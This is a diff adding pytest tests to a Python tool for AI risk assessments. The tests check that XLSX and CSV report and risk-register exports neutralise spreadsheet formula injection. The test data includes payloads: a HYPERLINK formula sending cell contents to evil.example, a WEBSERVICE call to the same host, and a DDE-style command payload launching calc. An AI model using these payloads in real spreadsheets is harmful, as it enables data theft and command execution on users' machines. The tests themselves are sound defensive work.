@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
@@ -10,11 +11,13 @@ from pypdf import PdfReader
 
 from tekisei.core.assessments import AnswerFields, AnswerState
 from tekisei.core.orgs import OrgActor, OrgCreate, Principal
+from tekisei.core.risks import RiskFields
 from tekisei.core.systems import SystemFacts
 from tekisei.errors import InvalidInputError, NotFoundError
-from tekisei.services import assessments, orgs, reports, systems
+from tekisei.services import assessments, orgs, reports, risks, systems
 from tekisei.services.database import Database
 from tests.conftest import skip_or_fail
+from tests.render.test_sheets import assert_csv_safe, assert_text_only
 
 
 @pytest.fixture
@@ -73,3 +76,60 @@ def test_html_and_xlsx_in_both_languages(assessed: tuple[Database, Principal, in
     answers = book.worksheets[0]
     rows = [[c.value for c in row] for row in answers.iter_rows(min_row=5)]
     assert ["2(3)", "十分な安全性の確保", "実施済み", "電子透かしを全ての画像に付与", None] in rows
+
+
+EVIL_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_an_answer_that_looks_like_a_formula_stays_text_in_the_xlsx_report(
+    assessed: tuple[Database, Principal, int],
+) -> None:
+    db, admin, system_id = assessed
+    with db.transaction() as session:
+        row = assessments.current_assessment(session, admin, system_id)
+        assessments.answer_requirement(
+            session,
+            admin,
+            row.id,
+            "jp-ai-appropriateness-2025:2(4)",
+            AnswerFields(state=AnswerState.PARTIAL, notes=EVIL_NOTE),
+        )
+    with db.reading() as session:
+        xlsx = reports.assessment_report(session, admin, system_id, "xlsx", "en").content
+    assert_text_only(xlsx, [EVIL_NOTE])
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_the_risk_register_export_never_writes_a_formula(
+    assessed: tuple[Database, Principal, int], fmt: str
+) -> None:
+    db, admin, system_id = assessed
+    titles = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "普通のリスク"]
+    with db.transaction() as session:
+        for title in titles:
+            fields = RiskFields(
+                title=title.strip() or "x",
+                taxonomy=["social.bias"],
+                likelihood=3,
+                impact=4,
+                treatment_plan='=WEBSERVICE("http://evil.example")',
+                owner="@owner",
+            )
+            risks.add_risk(session, admin, system_id, fields)
+    with db.reading() as session:
+        found = reports.risk_register(session, admin, fmt, "ja")
+        with pytest.raises(InvalidInputError):
+            reports.risk_register(session, admin, "pdf", "ja")
+    assert found.filename == f"risks-acme.{fmt}"
+    stored = [t.strip() for t in titles]
+    if fmt == "xlsx":
+        assert_text_only(found.content, [*stored, "@owner"])
+        sheet = load_workbook(io.BytesIO(found.content)).worksheets[0]
+        assert [c.value for c in sheet[1]][:3] == ["ID", "AIシステム", "リスク"]
+        assert len(list(sheet.iter_rows())) == 1 + len(titles)
+    else:
+        text = found.content.decode("utf-8-sig")
+        assert_csv_safe(text)
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert len(rows) == 1 + len(titles)
+        assert {r[2] for r in rows[1:]} == {"'" + t if t != "普通のリスク" else t for t in stored}
